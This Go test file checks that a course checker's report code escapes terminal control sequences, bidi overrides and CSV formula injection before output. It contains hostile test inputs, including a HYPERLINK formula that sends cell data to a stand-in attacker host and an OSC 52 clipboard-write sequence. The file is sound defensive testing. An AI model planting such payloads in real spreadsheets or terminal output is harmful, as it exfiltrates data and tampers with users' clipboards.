package report

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/workbook-course/workbook/checker"
	"github.com/workbook-course/workbook/internal/i18n"
)

func TestEscape(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "опит 1\tok\n", "опит 1\tok\n"},
		{"empty", "", ""},
		{"nbsp and dashes stay", "5\u00a0s\u00a0— „x“ «y»", "5\u00a0s\u00a0— „x“ «y»"},
		{"ESC colour", "\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`},
		{"OSC 52 with BEL", "\x1b]52;c;aGk=\x07", `\x1b]52;c;aGk=\x07`},
		{"CR and NUL", "a\rb\x00c", `a\x0db\x00c`},
		{"DEL", "a\x7fb", `a\x7fb`},
		{"C1 CSI and NEL", "a\u009b31mb\u0085", `a\u009b31mb\u0085`},
		{"invalid UTF-8", "a\xffb\xc3", `a\xffb\xc3`},
		{"bidi override", "abc\u202edcba\u2066", `abc\u202edcba\u2066`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"backslash kept", `C:\x1b`, `C:\x1b`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Escape(tt.in); got != tt.want {
				t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if got := Escape(Escape(tt.in)); got != tt.want {
				t.Errorf("Escape twice = %q, want %q (escaping is idempotent)", got, tt.want)
			}
			if got := string(EscapeBytes([]byte(tt.in))); got != tt.want {
				t.Errorf("EscapeBytes(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestEscapeLine(t *testing.T) {
	tests := []struct{ in, want string }{
		{"one line", "one line"},
		{"two\nlines\tand a tab", `two\nlines\tand a tab`},
		{"\x1b]0;title\x07", `\x1b]0;title\x07`},
	}
	for _, tt := range tests {
		if got := EscapeLine(tt.in); got != tt.want {
			t.Errorf("EscapeLine(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Иван Петров", "Иван Петров"},
		{"", ""},
		{"87.5", "87.5"},
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", `\x0d=1`}, // a CR is written out, so the cell no longer starts with one
		{"a=b", "a=b"},
		{"\x1b]52;c;aGk=\x07Анна", `\x1b]52;c;aGk=\x07Анна`},
	}
	for _, tt := range tests {
		if got := CSVCell(tt.in); got != tt.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestEscapeJSON(t *testing.T) {
	tests := []string{
		"plain",
		"\x1b[31m\x07",
		"del\x7f c1\u0085\u009b bidi\u202e\u2069 кириллица",
		"<html> & \"quotes\"",
	}
	for _, in := range tests {
		data, err := json.Marshal(map[string]string{"s": in})
		if err != nil {
			t.Fatal(err)
		}
		got := EscapeJSON(data)
		if !clean(string(got)) {
			t.Errorf("EscapeJSON(%s) = %q: a raw control character is left", data, got)
		}
		var back map[string]string
		if err := json.Unmarshal(got, &back); err != nil || back["s"] != in {
			t.Errorf("EscapeJSON(%s) = %s, decodes to %q (%v), want %q", data, got, back["s"], err, in)
		}
	}
}

// TestPresentersEscape runs a result full of control characters through the terminal and Markdown
// presenters: none of them may reach the output, whatever field they come in.
func TestPresentersEscape(t *testing.T) {
	evil := "\x1b]52;c;aGk=\x07\x1b[2J\u009b"
	res := &checker.Result{
		Exercise: "exercise-deadline", Dir: "class/" + evil, Verdict: checker.Fail, Total: 2,
		Cases: []checker.CaseResult{
			{Name: "01", Title: "t", Visible: true, Status: checker.Fail, Args: []string{evil},
				Got: evil + "\n", Want: "ok\n", Diff: &checker.Diff{Line: 1, Want: "ok", Got: evil}},
			{Name: "02", Title: "t", Visible: true, Status: checker.Crash, ExitCode: 2, Message: evil, Stderr: "panic: " + evil},
		},
	}
	for _, lang := range []string{"en", "ru", "bg"} {
		var text, md bytes.Buffer
		Text(&text, res, i18n.New(lang), Options{})
		Markdown(&md, res, i18n.New(lang), Options{})
		for name, out := range map[string]string{"Text": text.String(), "Markdown": md.String()} {
			if !clean(out) {
				t.Errorf("%s in %s holds a raw control character:\n%q", name, lang, out)
			}
			if !strings.Contains(out, `\x1b]52;c;aGk=\x07`) {
				t.Errorf("%s in %s does not show the escape written out:\n%s", name, lang, out)
			}
		}
	}
	// With colours on, the only ESC bytes are the presenter's own.
	var text bytes.Buffer
	Text(&text, res, i18n.New("en"), Options{Color: true})
	if strings.Contains(text.String(), "\x1b]") || strings.Contains(text.String(), "\x07") {
		t.Errorf("coloured Text lets a program's OSC through:\n%q", text.String())
	}
}
